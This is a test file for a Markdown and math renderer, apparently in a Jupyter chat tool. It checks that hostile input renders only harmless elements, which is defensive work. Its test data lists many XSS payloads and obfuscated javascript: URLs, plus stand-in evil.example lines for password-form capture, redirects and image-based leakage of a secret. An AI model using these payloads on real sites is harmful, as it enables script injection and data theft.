// @vitest-environment jsdom
/** Markdown, however hostile, becomes elements that can do nothing. */
import { describe, expect, it } from "vitest";
import { decodeHTMLStrict } from "../src/render/entities";
import { type Context, render } from "../src/render/markdown";
import { typeset } from "../src/render/typesetter";

const IMAGES = ["https://hub.example/user/me/files/"];
const context = (): Context => ({ references: {}, images: IMAGES });

function html(source: string): string {
  const host = document.createElement("div");
  host.append(render(source, context()));
  return host.innerHTML;
}

function elements(source: string): Element[] {
  return [...render(source, context()).querySelectorAll("*")];
}

const PAYLOAD = "alert(1)";
const ADDRESSES = [
  `javascript:${PAYLOAD}`,
  `JaVaScRiPt:${PAYLOAD}`,
  `javascript&#58;${PAYLOAD}`,
  `javascript&colon;${PAYLOAD}`,
  `&#106;avascript:${PAYLOAD}`,
  `java&Tab;script:${PAYLOAD}`,
  `java&#10;script:${PAYLOAD}`,
  `\u0001javascript:${PAYLOAD}`,
  `<java\tscript:${PAYLOAD}>`,
  `< javascript:${PAYLOAD}>`,
  `\\javascript:${PAYLOAD}`,
  `vbscript:${PAYLOAD}`,
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd",
  "blob:https://hub.example/1",
  "view-source:javascript:alert(1)",
  "//evil.example/x",
  "/logout",
  "../../hub/logout",
];
const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>",
  "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  '```"onmouseover=alert(1)\nx\n```',
  "    <img src=x onerror=alert(1)>",
  '[x](https://ok.example "\'><img src=x onerror=alert(1)>")',
  '![x" onerror="alert(1)](https://ok.example/x.png)',
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  'https://ok.example/"onmouseover=alert(1)',
  "| <img src=x onerror=alert(1)> | b |\n|:-:|:-:|\n| 1 | 2 |",
  "$</span><img src=x onerror=alert(1)>$",
  "$$\n<script>alert(1)</script>\n$$",
  "\\[<img src=x onerror=alert(1)>\\]",
  "# <a name=body onclick=alert(1)>x</a>",
  "a\u0000b<scr\u0000ipt>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
  ...ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `![x](${address})`,
    `[![y](${address})](${address})`,
  ]),
];
const ALLOWED = new Set(
  (
    "A BLOCKQUOTE BR CODE DIV EM H1 H2 H3 H4 H5 H6 HR IMG LI OL P PRE S SPAN STRONG " +
    "TABLE TBODY TD TH THEAD TR UL"
  ).split(" "),
);

describe("hostile Markdown", () => {
  const RULES: Readonly<Record<string, RegExp>> = {
    href: /^(https?|mailto):/,
    src: /^(https:\/\/hub\.example\/user\/me\/files\/|data:image\/)/,
    style: /^text-align: (left|right|center);$/,
  };

  it.each(HOSTILE)("makes nothing but text and harmless elements: %j", (source) => {
    for (const element of elements(source)) {
      expect(ALLOWED).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|srcdoc|xlink|formaction|^id$|^name$/i);
        expect(value).toMatch(RULES[name] ?? /^/);
      }
    }
  });

  it("is held to a fixed list of elements that has no script in it", () => {
    expect(html("<script>alert(1)</script>")).not.toContain("<script");
  });
});

describe("entities", () => {
  it("are the browser's, and what is none stays as it is", () => {
    const host = document.createElement("div");
    host.append(render("&copy; &frac12; &#955; &lt;b&gt; &nonsense; &amp;amp; AT&T", context()));
    expect(host.textContent?.trim()).toBe("© ½ λ <b> &nonsense; &amp; AT&T");
    expect(host.querySelector("b")).toBeNull();
  });

  it("are decoded by our own stand-in, as in the bundle", () => {
    expect(decodeHTMLStrict("&hearts;")).toBe("♥");
    expect(decodeHTMLStrict("&semi;")).toBe(";");
    expect(decodeHTMLStrict("&notit;")).toBe("&notit;");
    expect(decodeHTMLStrict("</textarea><b>")).toBe("</textarea><b>");
  });
});

describe("links", () => {
  it("leave the page without a way back", () => {
    const [link] = elements("[x](https://ok.example)").filter((one) => one.tagName === "A");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  it("are not made of words that look like a file", () => {
    expect(html("see prices.py and example.com")).not.toContain("<a");
  });
});

describe("images", () => {
  it("are shown from the chat's own files and from the text itself", () => {
    expect(html(`![x](${IMAGES[0]}a.png)`)).toContain("<img");
    expect(html("![x](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
  });

  it("from elsewhere are links: loading one would tell a stranger", () => {
    const tracked = html("![plot](https://evil.example/?q=secret)");
    expect(tracked).not.toContain("<img");
    expect(tracked).toContain('href="https://evil.example/?q=secret"');
    expect(html("![x](https://hub.example/user/me/logout)")).not.toContain("<img");
    expect(html("![x](https://hub.example/user/me/files/../../logout)")).not.toContain("<img");
  });
});

describe("formulas", () => {
  const formula = (source: string): (string | null)[] =>
    elements(source)
      .filter((one) => one.className === "jp-Chatcore-math")
      .map((one) => one.textContent);

  it.each([
    ["$x^2$", "x^2"],
    ["a $$x$$ b", "x"],
    ["\\(a_1\\)", "a_1"],
    ["\\[a\\]", "a"],
    ["$$\na\n= b\n- c\n$$", "a\n= b\n- c"],
    ["> $$\n> a\n> b\n> $$", "a\nb"],
    ["- item\n\n  $$\n  a\n  $$", "a"],
    ["$a\\$b$", "a\\$b"],
  ])("%j", (source, tex) => {
    expect(formula(source)).toEqual([tex]);
  });

  it.each([
    "It costs $5 or $6.",
    "$ x $",
    "$100",
    "`$x$`",
    "$$",
    "\\(",
    "\\\\(x",
    "$a\nb$",
    "US$5, A$6",
  ])("is none: %j", (source) => {
    expect(formula(source)).toEqual([]);
  });

  it("that is still being written stands as its text", () => {
    expect(html("so\n\n$$\n\\frac{a}{")).toContain('class="jp-Chatcore-tex"');
  });

  it.each([
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\includegraphics{https://evil.example/x.png}",
    '\\class{x" onclick="alert(1)}{x}',
    "\\style{background:url(https://evil.example)}{x}",
    "\\color{url(https://evil.example)}x",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\def\\a{\\a\\a}\\a",
    "\\rule{99999em}{99999em}",
    "{".repeat(5000),
    "\\frac{",
  ])("does nothing when hostile: %j", (tex) => {
    for (const element of typeset(tex, true).querySelectorAll("*")) {
      expect(element.localName).not.toMatch(/script|img|^a$|annotation|maction|mglyph/);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|href|src|^id$/);
        expect(value).not.toMatch(/url|javascript/i);
      }
    }
  });
});
